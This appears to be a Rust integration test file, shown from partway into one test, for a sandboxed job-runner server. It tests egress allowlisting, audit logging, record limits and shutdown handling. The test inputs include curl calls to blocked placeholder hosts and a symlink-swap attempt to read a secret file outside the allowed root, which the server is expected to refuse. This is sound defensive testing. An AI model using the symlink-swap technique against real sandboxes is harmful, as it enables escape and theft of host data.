    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("{e}"));
    let port = l.local_addr().map(|a| a.port()).unwrap_or(0);
    std::thread::spawn(move || {
        if let Some(mut c) = l.incoming().map_while(Result::ok).next() {
            use std::io::{Read, Write};
            let mut b = [0u8; 2048];
            let _ = c.read(&mut b);
            let _ = held.recv_timeout(Duration::from_secs(60));
            let _ = c.write_all(
                b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nfound\n",
            );
        }
    });
    let mut b = shell(
        &repo,
        &format!("curl -s -o /dev/null http://blocked.example/; curl -s http://127.0.0.1:{port}/"),
    );
    b["network"] = json!(format!("allow:127.0.0.1:{port}"));
    let (code, j) = s.json("POST", "/v1/jobs", Some(b));
    assert_eq!(code, 202, "{j}");
    let id = j["id"].as_str().unwrap_or("").to_string();
    let events = sse_live(&s, &format!("/v1/jobs/{id}/logs?follow=true"), None);
    let next_egress = || loop {
        match events.recv_timeout(Duration::from_secs(30)) {
            Ok((_, ev, data)) if ev == "egress" => {
                return serde_json::from_str::<Value>(&data).unwrap_or_default()
            }
            Ok((_, ev, data)) => assert_ne!(ev, "end", "ended before its egress: {data}"),
            Err(e) => panic!("no egress event: {e}"),
        }
    };
    let refused = next_egress();
    assert_eq!(refused["host"], "blocked.example", "{refused}");
    assert_eq!(refused["allowed"], false);
    assert_eq!(refused["phase"], "closed");
    assert_eq!(refused["reason"], "host-not-allowlisted");
    let open = next_egress();
    assert_eq!(open["host"], "127.0.0.1", "{open}");
    assert_eq!(open["port"], port);
    assert_eq!(
        (&open["allowed"], &open["phase"]),
        (&json!(true), &json!("open"))
    );
    // the upstream has not answered: the job is still running, and the
    // refusal is already in the audit trail
    let (_, now) = s.json("GET", &format!("/v1/jobs/{id}"), None);
    assert_eq!(now["status"], "running", "{now}");
    let audit_for = |outcome: &str| {
        let (_, a) = s.json("GET", "/v1/audit?limit=200", None);
        a["events"]
            .as_array()
            .cloned()
            .unwrap_or_default()
            .into_iter()
            .filter(|e| {
                e["action"] == "egress"
                    && e["outcome"] == outcome
                    && e["detail"].as_str().unwrap_or("").contains(&id)
            })
            .count()
    };
    assert_eq!(audit_for("refused: host-not-allowlisted"), 1);
    assert_eq!(audit_for("allowed"), 0, "audited before it closed");
    let _ = release.send(());
    let closed = next_egress();
    assert_eq!(closed["conn"], open["conn"], "{closed}");
    assert_eq!(closed["phase"], "closed");
    assert!(closed["bytes_down"].as_u64().unwrap_or(0) > 0, "{closed}");
    let rest: Vec<_> = events.iter().collect();
    assert_eq!(rest.last().map(|e| e.1.as_str()), Some("end"), "{rest:?}");
    let done = s.wait(&id);
    assert_eq!(done["status"], "succeeded", "{done}");
    // once each, not again when the job ended
    assert_eq!(audit_for("refused: host-not-allowlisted"), 1);
    assert_eq!(audit_for("allowed"), 1);
    // the result keeps one final record per connection
    let eg = done["result"]["egress"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    assert_eq!(eg.len(), 2, "{eg:?}");
    assert!(eg.iter().all(|e| e["phase"] == "closed"), "{eg:?}");
    // a follower who comes late gets every decision too, with ids, among
    // the output (the closed record and the output race: either first)
    let replay = sse(&s, &format!("/v1/jobs/{id}/logs?follow=true"), None);
    let mut kinds: Vec<&str> = replay.iter().map(|e| e.1.as_str()).collect();
    assert_eq!(kinds.pop(), Some("end"), "{replay:?}");
    kinds.sort_unstable();
    assert_eq!(
        kinds,
        ["egress", "egress", "egress", "stdout"],
        "{replay:?}"
    );
    assert!(replay[..4].iter().all(|e| !e.0.is_empty()), "{replay:?}");
    assert_eq!(replay[0].1, "egress", "{replay:?}");
    assert!(replay[0].2.contains("blocked.example"), "{replay:?}");
    // and they are not output: not in the text logs, nor the recording
    let logs = s.text(&format!("/v1/jobs/{id}/logs"));
    assert_eq!(logs, "found\n");
    let (_, _, cast) = s.req(
        "GET",
        &format!("/v1/jobs/{id}/recording"),
        Some(&s.key),
        None,
    );
    assert!(!cast.contains("blocked.example"), "{cast}");
}

#[test]
fn past_the_record_limit_a_job_counts_its_connections() {
    let (_t, repo, s) = setup(&["--egress-record-limit", "1"]);
    let mut b = shell(
        &repo,
        "for h in one two three; do curl -s -o /dev/null http://$h.example/; done",
    );
    b["network"] = json!("allow:127.0.0.1:9");
    let (id, done) = s.run_job(b);
    assert_eq!(done["status"], "succeeded", "{done}");
    assert_eq!(
        done["result"]["egress_unrecorded"],
        json!({"allowed": 0, "refused": 2, "limit": 1}),
        "{done}"
    );
    assert_eq!(done["result"]["egress"].as_array().map(Vec::len), Some(1));
    // followers were told; the audit trail has one row with the counts
    let evs = sse(&s, &format!("/v1/jobs/{id}/logs?follow=true"), None);
    assert!(
        evs.iter()
            .any(|e| e.1 == "egress" && e.2.contains("\"unrecorded\"")),
        "{evs:?}"
    );
    let (_, a) = s.json("GET", "/v1/audit?limit=200", None);
    let rows: Vec<Value> = a["events"]
        .as_array()
        .cloned()
        .unwrap_or_default()
        .into_iter()
        .filter(|e| {
            e["action"] == "egress"
                && e["detail"]
                    .as_str()
                    .is_some_and(|d| d.starts_with(&format!("job {id};")))
        })
        .collect();
    assert_eq!(rows.len(), 2, "one decision, one count: {rows:?}");
    assert!(
        rows.iter().any(|e| e["outcome"]
            == "not recorded one by one: 0 allowed, 2 refused (past the first 1 connections)"),
        "{rows:?}"
    );
}

#[test]
fn a_repo_swapped_for_a_symlink_after_acceptance_does_not_run() {
    let (t, repo, s) = setup(&["--max-concurrent", "1"]);
    let outside = t.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap_or_else(|e| panic!("{e}"));
    std::fs::write(outside.join("secret.txt"), "host data").unwrap_or_else(|e| panic!("{e}"));
    // keep the only worker busy so the second job waits in the queue
    let (_, busy) = s.json("POST", "/v1/jobs", Some(shell(&repo, "sleep 2")));
    s.wait_running(busy["id"].as_str().unwrap_or(""));
    let (code, j) = s.json("POST", "/v1/jobs", Some(shell(&repo, "cat secret.txt")));
    assert_eq!(code, 202);
    let id = j["id"].as_str().unwrap_or("").to_string();
    // swap the accepted repo for a symlink pointing outside the roots
    std::fs::rename(&repo, t.path().join("moved")).unwrap_or_else(|e| panic!("{e}"));
    std::os::unix::fs::symlink(&outside, &repo).unwrap_or_else(|e| panic!("{e}"));
    let done = s.wait(&id);
    assert_eq!(done["status"], "failed", "{done}");
    assert!(
        done["error"]
            .as_str()
            .unwrap_or("")
            .contains("no longer inside an allowed root"),
        "{done}"
    );
    let logs = s
        .req("GET", &format!("/v1/jobs/{id}/logs"), Some(&s.key), None)
        .2;
    assert!(!logs.contains("host data"), "{logs}");
}

/// SIGTERM right as a worker takes a job: whether the job started before
/// the drain (then it finishes within the grace period) or stayed queued
/// (then it runs after the restart), it must never be cut short.
#[test]
fn sigterm_at_the_moment_a_job_starts_loses_nothing() {
    let (t, repo, s) = setup(&["--shutdown-grace", "20s"]);
    let root = repo
        .parent()
        .unwrap_or(&repo)
        .to_string_lossy()
        .into_owned();
    drop(s);
    for round in 0..4 {
        let mut s = Server::start(
            &t.path().join("data"),
            &["--allowed-root", &root, "--shutdown-grace", "20s"],
        );
        let (code, j) = s.json("POST", "/v1/jobs", Some(shell(&repo, "sleep 0.3; echo ok")));
        assert_eq!(code, 202);
        let id = j["id"].as_str().unwrap_or("").to_string();
        s.signal(libc::SIGTERM);
        assert!(
            s.wait_exit(Duration::from_secs(30))
                .is_some_and(|st| st.success()),
            "round {round}"
        );
        let s2 = Server::start(&t.path().join("data"), &["--allowed-root", &root]);
        let done = s2.wait(&id);
        assert_eq!(done["status"], "succeeded", "round {round}: {done}");
    }
}
